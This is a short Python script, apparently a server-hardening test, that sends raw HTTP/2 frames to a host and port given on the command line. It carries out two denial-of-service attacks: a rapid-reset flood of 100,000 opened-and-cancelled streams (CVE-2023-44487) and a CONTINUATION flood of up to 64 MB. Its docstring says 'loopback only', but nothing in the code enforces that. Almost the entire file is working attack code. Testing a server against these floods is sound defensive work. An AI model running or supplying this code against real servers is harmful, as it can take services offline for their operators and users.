"""HTTP/2 abuse against backupd with raw frames: rapid reset (CVE-2023-44487)
and a CONTINUATION flood (2024). Loopback only, bounded. Prints one RESULT
line per attack: how the server ended the connection and how much was sent.

usage: h2_attacks.py HOST PORT
"""
import socket, struct, sys, time

host, port = sys.argv[1], int(sys.argv[2])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
# :method GET, :scheme http, :path /, :authority x (HPACK static table + literal)
BLOCK = bytes([0x82, 0x86, 0x84, 0x41, 0x01]) + b"x"

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def outcome(sock, limit=10.0):
    """Reads until EOF/reset; reports whether a GOAWAY arrived and its code."""
    sock.settimeout(limit)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionResetError, OSError):
        pass
    i, goaway = 0, None
    while i + 9 <= len(data):
        length = int.from_bytes(data[i:i + 3], "big")
        if data[i + 3] == GOAWAY and i + 17 <= len(data):
            goaway = int.from_bytes(data[i + 13:i + 17], "big")
        i += 9 + length
    return goaway

def rapid_reset(n=100_000):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sent, batch = 0, []
    stream = 1
    try:
        for _ in range(n):
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, BLOCK))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8)))
            stream += 2
            if len(batch) >= 2000:
                s.sendall(b"".join(batch))
                sent += len(batch) // 2
                batch = []
    except (BrokenPipeError, ConnectionResetError, OSError):
        pass
    goaway = outcome(s)
    s.close()
    return sent, goaway

def continuation_flood(max_bytes=64 << 20):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    s.sendall(frame(HEADERS, END_STREAM, 1, BLOCK))
    # Literal header "x-junk: <1000 bytes>" without indexing, again and again.
    junk = bytes([0x00, 0x06]) + b"x-junk" + bytes([0x7F, 0x89, 0x07]) + b"a" * 1000
    cont = frame(CONTINUATION, 0, 1, junk * 16)
    sent = 0
    try:
        while sent < max_bytes:
            s.sendall(cont)
            sent += len(cont)
    except (BrokenPipeError, ConnectionResetError, OSError):
        pass
    goaway = outcome(s)
    s.close()
    return sent, goaway

t0 = time.monotonic()
sent, goaway = rapid_reset()
print(f"RESULT rapid_reset streams_sent={sent} goaway_code={goaway} seconds={time.monotonic() - t0:.1f}")
t0 = time.monotonic()
sent, goaway = continuation_flood()
print(f"RESULT continuation_flood bytes_sent={sent} goaway_code={goaway} seconds={time.monotonic() - t0:.1f}")
